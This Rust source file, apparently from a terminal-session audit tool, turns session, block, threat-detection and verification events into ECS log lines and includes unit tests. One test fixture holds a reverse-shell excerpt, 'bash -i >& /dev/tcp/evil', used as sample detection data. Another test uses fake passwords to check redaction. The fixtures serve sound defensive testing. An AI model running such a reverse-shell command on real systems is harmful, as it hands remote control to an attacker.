//! Lines of the audit log.

use audit_core::{
    Answer, Decision, End, Exit, Identity, News, Notice, Outcome, SessionSpec, Verdict, Winsize,
};
use serde_json::{Map, Value, json};

use super::Level;
use crate::text;

/// The version of ECS the field names come from.
const ECS_VERSION: &str = "8.11.0";

/// What kind of event a line is about: ECS's `event.action`, `.kind`, `.category`, `.type` and
/// `.outcome`.
struct Class {
    action: &'static str,
    kind: &'static str,
    category: &'static str,
    types: &'static [&'static str],
    outcome: &'static str,
}

impl Class {
    /// Something in the life of a session.
    const fn session(action: &'static str, types: &'static [&'static str]) -> Self {
        Self { action, kind: "event", category: "session", types, outcome: "unknown" }
    }

    /// Something found that should not be.
    const fn intrusion(action: &'static str, types: &'static [&'static str]) -> Self {
        Self { action, kind: "alert", category: "intrusion_detection", types, outcome: "unknown" }
    }

    const fn alert(self) -> Self {
        Self { kind: "alert", ..self }
    }

    const fn succeeded(self) -> Self {
        Self { outcome: "success", ..self }
    }

    const fn failed(self) -> Self {
        Self { outcome: "failure", ..self }
    }
}

/// The line for `notice`; `None` when it is not worth one.
pub(super) fn of_notice(
    spec: &SessionSpec,
    notice: &Notice,
) -> Option<(Level, Map<String, Value>)> {
    let at = spec.opened_unix_millis.saturating_add(notice.at.as_nanos() / 1_000_000);
    let mut event = Event::new(at);
    event.session(spec);
    let level = match &notice.news {
        News::Opened { pid } => {
            event.set("process.pid", *pid);
            if spec.pty {
                event.winsize(spec.winsize);
            }
            let class = Class::session("session-opened", &["start"]).succeeded();
            event.class(&class, "session opened".into());
            Level::Info
        }
        News::State(state) => {
            event.set("auditty.state", json!(state));
            let message = "session state changed".into();
            event.class(&Class::session("session-state", &["info"]), message);
            Level::Debug
        }
        News::Resized(winsize) => {
            event.winsize(*winsize);
            let message = format!("terminal resized to {} x {}", winsize.rows, winsize.columns);
            event.class(&Class::session("session-resized", &["info"]).succeeded(), message);
            Level::Info
        }
        News::Blocked { block, approval, verdict } => {
            event.set("auditty.block.id", block.0);
            event.set("auditty.block.asked_by", approval.asked_by.name.clone());
            let class = match verdict {
                Some(verdict) => {
                    event.verdict(verdict);
                    Class::intrusion("session-blocked", &["denied"])
                }
                None => Class::session("session-blocked", &["info", "denied"]).alert(),
            };
            let message = format!("session blocked: {}", text::sanitised(&approval.subject));
            event.class(&class.succeeded(), message);
            Level::Warning
        }
        News::Decided { block, decision } => {
            event.set("auditty.block.id", block.0);
            event.decision(decision);
            Level::Warning
        }
        News::Terminated { by } => {
            event.set("auditty.terminated.by", by.name.clone());
            let message = format!("session ended by {}", text::sanitised(&by.name));
            event.class(&Class::session("session-terminated", &["info"]).succeeded(), message);
            Level::Warning
        }
        News::Verdict(verdict) => {
            event.verdict(verdict);
            let message =
                format!("threat found, not blocked: score {}", text::score(verdict.score));
            event.class(&Class::intrusion("threat-found", &["info"]), message);
            Level::Info
        }
        News::Alarm { name, text } => {
            event.set("auditty.alarm", name.clone());
            let class = Class::session("alarm", &["error"]).alert().failed();
            event.class(&class, text::sanitised(text));
            Level::Error
        }
        News::Finished(outcome) => event.outcome(outcome),
        // Answers say nothing that the line about what was ordered does not.
        _ => return None,
    };
    Some(event.finish(level))
}

/// The line for a recording that failed verification, which `user` asked for on `host`.
pub(super) fn failed_verification(
    (user, host): (&Identity, &str),
    session: &str,
    status: &str,
    reason: &str,
) -> Map<String, Value> {
    let mut event = Event::new(text::now_unix_millis());
    event.place(user, host);
    event.set("auditty.session.id", session);
    event.set("auditty.verify.status", status);
    let message = format!("verification failed: {}", text::sanitised(reason));
    event.class(&Class::intrusion("verification-failed", &["info"]).failed(), message);
    event.finish(Level::Critical).1
}

/// The line for a recording that `user` on `host` removed because its time was up.
pub(super) fn expired((user, host): (&Identity, &str), session: &str) -> Map<String, Value> {
    let mut event = Event::new(text::now_unix_millis());
    event.place(user, host);
    event.set("auditty.session.id", session);
    let class = Class::session("session-expired", &["deletion"]).succeeded();
    event.class(&class, "session expired and removed".into());
    event.finish(Level::Info).1
}

/// A line being written.
struct Event(Map<String, Value>);

impl Event {
    fn new(unix_millis: u64) -> Self {
        let mut event = Self(Map::new());
        event.set("@timestamp", text::rfc3339(unix_millis));
        event.set("ecs.version", ECS_VERSION);
        event.set("event.module", "auditty");
        event
    }

    fn set(&mut self, name: &str, value: impl Into<Value>) {
        self.0.insert(name.to_owned(), value.into());
    }

    fn class(&mut self, class: &Class, message: String) {
        self.set("event.action", class.action);
        self.set("event.kind", class.kind);
        self.set("event.category", vec![class.category]);
        self.set("event.type", class.types);
        self.set("event.outcome", class.outcome);
        self.set("message", message);
    }

    fn place(&mut self, user: &Identity, host: &str) {
        self.set("host.hostname", host);
        self.set("user.name", user.name.clone());
        if let Some(uid) = user.uid {
            // ECS says that ids are keywords.
            self.set("user.id", uid.to_string());
        }
    }

    fn session(&mut self, spec: &SessionSpec) {
        self.place(&spec.user, &spec.host);
        self.set("auditty.session.id", spec.id.to_string());
        self.set("auditty.engine", spec.engine.clone());
        self.set("process.command_line", text::command_line(&spec.command));
    }

    fn winsize(&mut self, winsize: Winsize) {
        self.set("auditty.terminal.rows", winsize.rows);
        self.set("auditty.terminal.columns", winsize.columns);
    }

    fn verdict(&mut self, verdict: &Verdict) {
        self.set("auditty.score", text::score(verdict.score));
        // Excerpts are terminal data and stay in the journal.
        let rules: Vec<_> = verdict.findings.iter().map(|f| f.rule.clone()).collect();
        let techniques: Vec<_> =
            verdict.findings.iter().flat_map(|f| f.mitre.iter().cloned()).collect();
        self.set("rule.name", rules);
        if !techniques.is_empty() {
            self.set("threat.technique.id", techniques);
        }
    }

    fn decision(&mut self, decision: &Decision) {
        self.set("auditty.decision.by", decision.by.name.clone());
        self.set("auditty.decision.own", decision.own);
        if !decision.comment.is_empty() {
            self.set("auditty.decision.comment", text::sanitised(&decision.comment));
        }
        let (action, goes_on) = match decision.answer {
            Answer::Approve => ("block-approved", true),
            Answer::Reject => ("block-rejected", false),
            Answer::ExpireTerminate => ("block-expired", false),
            Answer::ExpireResume => ("block-expired", true),
        };
        let class = match goes_on {
            true => Class::session(action, &["info", "allowed"]).succeeded(),
            false => Class::session(action, &["info", "denied"]).failed(),
        };
        let outcome = if goes_on { "the session goes on" } else { "the session ends" };
        self.class(&class, format!("block decided: {outcome}"));
    }

    fn outcome(&mut self, outcome: &Outcome) -> Level {
        self.set("auditty.end", outcome.end.name());
        match outcome.exit {
            Some(Exit::Code(code)) => self.set("process.exit_code", code),
            Some(Exit::Signal { number, .. }) => {
                self.set("process.exit_code", 128 + number);
                self.set("auditty.signal", number);
            }
            None => {}
        }
        if let Some(loss) = &outcome.lost {
            self.set("auditty.lost.bytes", loss.bytes);
            self.set("auditty.lost.reason", text::sanitised(&loss.reason));
        }
        let good = matches!(outcome.end, End::Exited | End::HangUp) && outcome.lost.is_none();
        let class = Class::session("session-closed", &["end"]);
        let class = if good { class.succeeded() } else { class.failed() };
        self.class(&class, format!("session {}", outcome.end.name()));
        if good { Level::Info } else { Level::Warning }
    }

    fn finish(mut self, level: Level) -> (Level, Map<String, Value>) {
        self.set("log.level", level.name().to_lowercase());
        (level, self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::log::tests::spec;
    use audit_core::{Approval, BlockId, Finding, Moment, Score};

    fn line(news: News) -> (Level, Map<String, Value>) {
        let notice = Notice { id: 1, at: Moment::from_nanos(1_500_000_000), news };
        of_notice(&spec(), &notice).unwrap()
    }

    fn verdict(score: f32) -> Verdict {
        let finding = Finding {
            rule: "shell.reverse".into(),
            title: "reverse shell".into(),
            category: "reverse_shell".into(),
            mitre: vec!["T1059".into()],
            score: Score::new(score).unwrap(),
            excerpt: "bash -i >& /dev/tcp/evil".into(),
        };
        Verdict { score: finding.score, findings: vec![finding], secrets: vec![] }
    }

    fn blocked(by: Identity, verdict: Option<Verdict>) -> News {
        let approval = Approval {
            subject: "reverse shell [shell.reverse]".into(),
            digest: [0; 32],
            asked_by: by,
            needed: 1,
            deadline: Moment::START,
        };
        News::Blocked { block: BlockId(1), approval, verdict }
    }

    #[test]
    fn a_line_says_who_where_and_what() {
        let (level, line) = line(News::Opened { pid: 77 });
        assert_eq!(level, Level::Info);
        assert_eq!(line["@timestamp"], "2023-11-14T22:13:21.500Z");
        assert_eq!(line["event.action"], "session-opened");
        assert_eq!(line["event.category"], json!(["session"]));
        assert_eq!(line["event.type"], json!(["start"]));
        assert_eq!(line["user.name"], "ada");
        assert_eq!(line["host.hostname"], "turing");
        assert_eq!(line["process.pid"], 77);
        assert_eq!(line["auditty.terminal.columns"], 80);
        assert_eq!(line["process.command_line"], "sh -c a\\u{1b}b");
    }

    #[test]
    fn what_the_terminal_held_stays_out_of_the_log() {
        for news in
            [News::Verdict(verdict(0.5)), blocked(Identity::service("monitor"), Some(verdict(0.9)))]
        {
            let (_, line) = line(news);
            assert!(!Value::Object(line).to_string().contains("evil"));
        }
    }

    #[test]
    fn a_threat_is_named_with_its_score_whether_or_not_it_blocks() {
        for (news, score) in [
            (News::Verdict(verdict(0.5)), 0.5),
            (blocked(Identity::service("monitor"), Some(verdict(0.75))), 0.75),
        ] {
            let (_, line) = line(news);
            assert_eq!(line["auditty.score"], score);
            assert_eq!(line["rule.name"], json!(["shell.reverse"]));
            assert_eq!(line["threat.technique.id"], json!(["T1059"]));
            assert_eq!(line["event.category"], json!(["intrusion_detection"]));
        }
    }

    #[test]
    fn what_an_operator_orders_is_logged_with_his_name() {
        let grace = || Identity::person("grace", 7);
        let (level, line_of_block) = line(blocked(grace(), None));
        assert_eq!(level, Level::Warning);
        assert_eq!(line_of_block["auditty.block.asked_by"], "grace");
        assert!(!line_of_block.contains_key("auditty.score"));
        let (level, line) = line(News::Terminated { by: grace() });
        assert_eq!(level, Level::Warning);
        assert_eq!(line["event.action"], "session-terminated");
        assert_eq!(line["auditty.terminated.by"], "grace");
    }

    #[test]
    fn a_resize_is_logged_with_the_size() {
        let (level, line) = line(News::Resized(Winsize::new(33, 111)));
        assert_eq!(level, Level::Info);
        assert_eq!(line["event.action"], "session-resized");
        assert_eq!(
            (&line["auditty.terminal.rows"], &line["auditty.terminal.columns"]),
            (&json!(33), &json!(111))
        );
    }

    #[test]
    fn a_rejected_session_is_a_failure() {
        let (level, line) =
            line(News::Finished(Outcome { exit: None, end: End::Rejected, lost: None }));
        assert_eq!(level, Level::Warning);
        assert_eq!(line["event.outcome"], "failure");
        assert_eq!(line["event.type"], json!(["end"]));
        assert_eq!(line["auditty.end"], "rejected");
    }

    #[test]
    fn a_failed_verification_says_where_and_who_found_out() {
        let ada = Identity::person("ada", 1000);
        let line = failed_verification((&ada, "turing"), "0192", "corrupt", "frame 7");
        assert_eq!(line["host.hostname"], "turing");
        assert_eq!((&line["user.name"], &line["user.id"]), (&json!("ada"), &json!("1000")));
        assert_eq!(line["event.category"], json!(["intrusion_detection"]));
    }

    #[test]
    fn a_secret_in_the_command_line_is_not_logged() {
        let mut spec = spec();
        spec.command = audit_core::CommandSpec::new(
            "sh",
            ["-c", "mysql -u root -pSuperSecret123 shop; curl -u ada:sEcr3tPw42 https://x.example"],
        );
        let notice = Notice { id: 1, at: Moment::START, news: News::Opened { pid: 7 } };
        let (_, line) = of_notice(&spec, &notice).unwrap();
        let shown = line["process.command_line"].as_str().unwrap();
        assert!(shown.starts_with("sh -c mysql -u root -p["), "{shown}");
        assert!(!shown.contains("SuperSecret123") && !shown.contains("sEcr3tPw42"), "{shown}");
    }
}
